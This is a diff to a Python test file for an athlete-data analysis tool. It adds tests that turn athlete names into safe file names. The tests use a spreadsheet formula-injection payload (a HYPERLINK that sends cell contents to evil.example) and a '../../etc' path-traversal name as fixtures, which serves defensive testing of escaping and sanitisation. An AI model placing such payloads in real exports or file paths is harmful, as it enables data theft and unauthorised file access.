@@ -8,7 +8,7 @@ import pandas as pd
 import pytest
 
 from analysis.cli import main
-from analysis.safetext import spreadsheet_cell, spreadsheet_safe
+from analysis.safetext import file_stem, spreadsheet_cell, spreadsheet_safe
 from analysis.synth import gpx_bytes, synth_run
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -75,3 +75,10 @@ def test_the_athlete_export_zip_is_escaped_in_csv_not_in_parquet(db, tmp_path, c
     assert csv["name"].tolist() == ["'" + FORMULA]
     assert parquet["name"].tolist() == [FORMULA]  # typed data: kept exactly
     assert pain["note"].tolist() == ["'@SUM(A1)"]
+
+
+@pytest.mark.parametrize(("name", "stem"), [
+    ("Bea (demo)", "Bea-demo"), ("Zoë O'Neil", "Zoë-O-Neil"), ("../../etc", "etc"),
+    ("   ", "athlete"), ("a/b\\c.d", "a-b-c.d")])
+def test_a_name_in_a_file_name(name, stem):
+    assert file_stem(name) == stem
